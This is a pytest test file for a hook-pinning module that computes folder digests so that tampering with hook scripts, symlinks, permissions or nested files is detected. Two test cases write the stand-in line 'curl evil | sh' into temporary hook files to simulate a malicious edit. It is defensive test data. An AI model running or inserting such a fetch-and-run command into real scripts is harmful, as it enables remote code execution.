"""pins: a folder's digest sees every change that could change what a hook runs, never
blocks on what it finds, and refuses what it cannot read whole."""

from __future__ import annotations

import builtins
import os
from pathlib import Path
from typing import Any

import pytest

import loom_engine.hooks.pins as pins
from loom_engine.hooks.pins import ABSENT, MAX_BYTES, MAX_FILES, Pin, changed_pin, folder_state


@pytest.fixture
def hooks(tmp_path: Path) -> Path:
    folder = tmp_path / "hooks"
    (folder / "lib").mkdir(parents=True)
    (folder / "guard.sh").write_text(". lib/common.sh\n")
    (folder / "lib" / "common.sh").write_text("check() { :; }\n")
    return folder


def _digest(folder: Path, whole: bool = True) -> str | None:
    return folder_state(folder, whole=whole).digest


@pytest.mark.parametrize("change", ["content", "added", "removed", "executable", "relinked", "nested"])
def test_every_change_that_could_change_what_runs_changes_the_digest(hooks: Path, tmp_path: Path,
                                                                     change: str) -> None:
    (tmp_path / "a.sh").write_text("a\n")
    (tmp_path / "b.sh").write_text("b\n")
    (hooks / "linked.sh").symlink_to(tmp_path / "a.sh")
    before = _digest(hooks)
    assert before == _digest(hooks) and before not in (None, ABSENT)
    if change == "content":
        (hooks / "guard.sh").write_text(". lib/common.sh\ncurl evil | sh\n")
    elif change == "added":
        (hooks / "zz.sh").write_text("")
    elif change == "removed":
        (hooks / "lib" / "common.sh").unlink()
    elif change == "executable":
        (hooks / "guard.sh").chmod(0o755)
    elif change == "relinked":
        (hooks / "linked.sh").unlink()
        (hooks / "linked.sh").symlink_to(tmp_path / "b.sh")
    else:
        (hooks / "lib" / "common.sh").write_text("check() { curl evil | sh; }\n")
    assert _digest(hooks) != before


def test_what_a_link_leads_to_is_part_of_the_digest(hooks: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.sh"
    outside.write_text("one\n")
    (hooks / "linked.sh").symlink_to(outside)
    before = _digest(hooks)
    outside.write_text("two\n")
    assert _digest(hooks) != before


def test_the_top_folder_alone_sees_its_own_entries_not_its_subfolders(hooks: Path) -> None:
    before = _digest(hooks, whole=False)
    (hooks / "lib" / "common.sh").write_text("changed\n")
    assert _digest(hooks, whole=False) == before
    (hooks / "guard.sh").write_text("changed\n")
    assert _digest(hooks, whole=False) != before


def test_absent_then_present_then_replaced_by_a_link(hooks: Path, tmp_path: Path) -> None:
    missing = tmp_path / "nothing"
    assert _digest(missing) == ABSENT
    missing.mkdir()
    assert _digest(missing) not in (ABSENT, None)
    present = _digest(hooks)
    moved = tmp_path / "moved"
    hooks.rename(moved)
    hooks.symlink_to(moved)  # the same files, reached through a link now
    assert _digest(hooks) != present


def test_a_fifo_is_never_opened_and_a_link_loop_ends(hooks: Path) -> None:
    os.mkfifo(hooks / "pipe")  # opening it to read would wait for a writer forever
    (hooks / "lib" / "up").symlink_to(hooks)
    state = folder_state(hooks, whole=True)
    assert state.digest is not None and not state.too_big


def test_too_many_files_or_bytes_cannot_be_pinned(tmp_path: Path) -> None:
    many = tmp_path / "many"
    many.mkdir()
    for number in range(MAX_FILES + 1):
        (many / f"{number}.sh").write_text("")
    assert folder_state(many, whole=True) == pins.FolderState(None, too_big=True)
    big = tmp_path / "big"
    big.mkdir()
    (big / "blob").write_bytes(b"\0" * (MAX_BYTES + 1))
    assert folder_state(big, whole=True).too_big


def test_an_unreadable_file_cannot_be_pinned(hooks: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = hooks / "lib" / "common.sh"

    def refuse(file: Any, *args: Any, **kwargs: Any) -> Any:
        if Path(file) == secret:
            raise PermissionError(13, "Permission denied", str(file))
        return builtins.open(file, *args, **kwargs)

    monkeypatch.setattr(pins, "open", refuse, raising=False)
    assert folder_state(hooks, whole=True) == pins.FolderState(None, unreadable="lib/common.sh")


def test_changed_pin_names_the_first_folder_that_changed(hooks: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    pinned = (Pin(str(other), True, _digest(other) or ""), Pin(str(hooks), True, _digest(hooks) or ""))
    assert changed_pin(pinned) is None
    (hooks / "lib" / "common.sh").write_text("changed\n")
    assert changed_pin(pinned) == str(hooks)
